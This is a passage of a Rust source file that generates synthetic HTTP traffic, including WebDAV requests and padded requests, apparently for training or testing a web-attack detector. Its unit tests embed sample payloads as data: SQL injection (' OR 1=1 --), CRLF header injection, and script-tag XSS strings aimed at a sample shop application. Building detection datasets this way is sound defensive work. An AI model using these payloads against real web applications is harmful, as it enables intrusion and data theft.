        }
        "MKCOL" => (
            "MKCOL".to_owned(),
            format!("{dir}{}", pick(rng, &["New folder", "backup", "2024", "Scans"]).replace(' ', "%20")),
            String::new(),
        ),
        other => (other.to_owned(), if other == "OPTIONS" { dir } else { file }, String::new()),
    }
}

/// A PROPFIND body: `allprop`, or a list of properties as desktop clients ask for them.
fn propfind_body<R: Rng>(rng: &mut R) -> String {
    if rng.random_bool(0.3) {
        "<?xml version=\"1.0\" encoding=\"utf-8\" ?>\n<D:propfind xmlns:D=\"DAV:\"><D:allprop/></D:propfind>".to_owned()
    } else {
        let n = rng.random_range(2..8);
        let props: String = DAV_PROPS.choose_multiple(rng, n).copied().collect();
        format!(
            "<?xml version=\"1.0\"?>\n<d:propfind xmlns:d=\"DAV:\" xmlns:oc=\"http://owncloud.org/ns\" xmlns:nc=\"http://nextcloud.org/ns\"><d:prop>{props}</d:prop></d:propfind>"
        )
    }
}

/// Serialises a request; `Content-Length` when there is a body.
fn assemble<R: Rng>(
    rng: &mut R,
    method: &str,
    target: &str,
    host: &str,
    ua: &str,
    extra: &[(String, String)],
    body: &str,
) -> Vec<u8> {
    let mut s = format!("{method} {target} HTTP/1.1\r\nHost: {host}\r\n");
    let overrides_ua = extra.iter().any(|(k, _)| k == "User-Agent");
    if !overrides_ua {
        let _ = write!(s, "User-Agent: {ua}\r\n");
    }
    s.push_str("Accept: */*\r\n");
    if rng.random_bool(0.5) {
        s.push_str("Accept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate\r\n");
    }
    for (k, v) in extra {
        let _ = write!(s, "{k}: {v}\r\n");
    }
    if !body.is_empty() || method == "POST" {
        let _ = write!(s, "Content-Length: {}\r\n", body.len());
    }
    s.push_str("Connection: keep-alive\r\n\r\n");
    s.push_str(body);
    s.into_bytes()
}

/// An encrypted flow's request: an HTTP-looking request padded to `size` bytes (only its
/// length is visible on the wire).
pub fn padded_request(size: usize) -> Vec<u8> {
    let mut v = b"POST /api HTTP/1.1\r\nHost: x\r\n\r\n".to_vec();
    v.resize(size.max(v.len()), b'a');
    v.truncate(size.max(1));
    v
}

#[cfg(test)]
mod tests {
    use rand::SeedableRng;

    use super::*;

    fn names(params: &str) -> Vec<&str> {
        params.split('&').map(|p| p.split('=').next().unwrap_or("")).collect()
    }

    #[test]
    fn parts_split_every_corpus_line_once() {
        let lines: Vec<String> = (0..10_000).map(|i| format!("GET /tienda1/a.jsp?id={i}")).collect();
        let train = lines.iter().filter(|l| in_part(Part::Train, l)).count();
        let holdout = lines.iter().filter(|l| in_part(Part::Holdout, l)).count();
        assert_eq!(train + holdout, lines.len());
        assert!(lines.iter().all(|l| in_part(Part::All, l)));
        assert!(lines.iter().all(|l| in_part(Part::Train, l) != in_part(Part::Holdout, l)));
        assert!((2_700..3_300).contains(&holdout), "{holdout}");
    }

    #[test]
    fn shop_attacks_change_one_value_and_keep_the_rest() {
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(3);
        let get = (
            "GET".to_owned(),
            "/tienda1/publico/anadir.jsp?id=3&nombre=Vino+Rioja&precio=100".to_owned(),
            String::new(),
        );
        let post = (
            "POST".to_owned(),
            "/tienda1/publico/autenticar.jsp".to_owned(),
            "modo=entrar&login=bob&pwd=x1".to_owned(),
        );
        let bare = ("GET".to_owned(), "/tienda1/index.jsp".to_owned(), String::new());
        for _ in 0..200 {
            let (method, target, body) = with_shop_value(&mut rng, &get, |_, _| "%27+OR+1%3D1".to_owned());
            assert_eq!((method.as_str(), body.as_str()), ("GET", ""));
            let query = &target[target.find('?').unwrap() + 1..];
            assert!(target.starts_with("/tienda1/publico/anadir.jsp?"));
            assert_eq!(names(query), ["id", "nombre", "precio"]);
            assert_eq!(query.matches("%27+OR+1%3D1").count(), 1, "{target}");
            let (_, t, b) = with_shop_value(&mut rng, &post, |_, old| format!("{old}%3Cscript%3E"));
            assert_eq!(t, "/tienda1/publico/autenticar.jsp");
            assert_eq!(names(&b), ["modo", "login", "pwd"]);
            assert!(
                ["modo=entrar%3Cscript%3E", "login=bob%3Cscript%3E", "pwd=x1%3Cscript%3E"]
                    .iter()
                    .any(|v| b.contains(v)),
                "{b}"
            );
            let (_, t, _) = with_shop_value(&mut rng, &bare, |_, _| "x".to_owned());
            assert_eq!(t, "/tienda1/index.jsp?id=x");
            // Tampered values differ from the value and stay one parameter.
            let v = tampered(&mut rng, "100");
            assert_ne!(v, "100");
            assert!(!v.contains('&') && !v.contains('=') && !v.contains(' '), "{v}");
            // Hidden resources sit next to the shop's pages.
            let (m, t, b) = hidden_resource(&mut rng, &get);
            assert_eq!((m.as_str(), b.as_str()), ("GET", ""));
            assert!(t.starts_with("/tienda1/publico/") && t != get.1, "{t}");
        }
    }

    #[test]
    fn templates_parse_as_http() {
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(7);
        for name in TEMPLATES {
            for _ in 0..20 {
                let mut headers = Vec::new();
                let (m, t, b) = template(&mut rng, name, &mut headers).unwrap();
                let bytes = assemble(&mut rng, &m, &t, "h.test", "ua", &headers, &b);
                let mut hs = [httparse::EMPTY_HEADER; 32];
                let mut req = httparse::Request::new(&mut hs);
                let status =
                    req.parse(&bytes).unwrap_or_else(|e| panic!("{name}: {e}: {}", String::from_utf8_lossy(&bytes)));
                assert!(status.is_complete(), "{name}");
            }
        }
        assert!(template(&mut rng, "nope", &mut Vec::new()).is_err());
    }

    #[test]
    fn injected_payloads_stay_one_request() {
        let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(1);
        let payload = "' OR 1=1 --\r\nX-Evil: 1 <script>alert(1)</script>";
        for place in [Injection::Query, Injection::Path, Injection::Header, Injection::Body, Injection::Cookie] {
            let mut headers = Vec::new();
            let (m, t, b) = inject_payload(&mut rng, payload, place, &mut headers);
            let bytes = assemble(&mut rng, &m, &t, "h.test", "ua", &headers, &b);
            let mut hs = [httparse::EMPTY_HEADER; 32];
            let mut req = httparse::Request::new(&mut hs);
            assert!(req.parse(&bytes).unwrap().is_complete(), "{place:?}");
            assert!(!req.headers.iter().any(|h| h.name == "X-Evil"), "{place:?}: header injection escaped");
        }
    }

    #[test]
    fn access_log_lines_keep_answered_requests_only() {
        let ok = r#"83.149.9.216 - - [17/May/2015:10:05:03 +0000] "GET /images/k.png?x=1 HTTP/1.1" 200 203023 "http://semicomplete.com/p/" "Mozilla/5.0 (Macintosh)""#;
        let r = parse_logged(ok).expect("a 200");
        assert_eq!((r.method.as_str(), r.target.as_str()), ("GET", "/images/k.png?x=1"));
        assert_eq!(r.referer.as_deref(), Some("http://semicomplete.com/p/"));
        assert_eq!(r.agent, "Mozilla/5.0 (Macintosh)");
        let no_ref = ok.replace("\"http://semicomplete.com/p/\"", "\"-\"");
        assert_eq!(parse_logged(&no_ref).expect("a 200").referer, None);
        // Probes (404), proxy requests (absolute form), garbage: not kept.
        assert!(parse_logged(&ok.replace(" 200 ", " 404 ")).is_none());
        assert!(parse_logged(&ok.replace("GET /images", "GET http://x/images")).is_none());
        assert!(parse_logged("not a log line").is_none());
        assert!(parse_logged(&ok.replace("GET /images/k.png?x=1 HTTP/1.1", "\\x16\\x03\\x01")).is_none());
    }

    #[test]
    fn padded_requests_have_the_asked_size() {
        for n in [1, 10, 40, 5000] {
            assert_eq!(padded_request(n).len(), n);
        }
    }
}
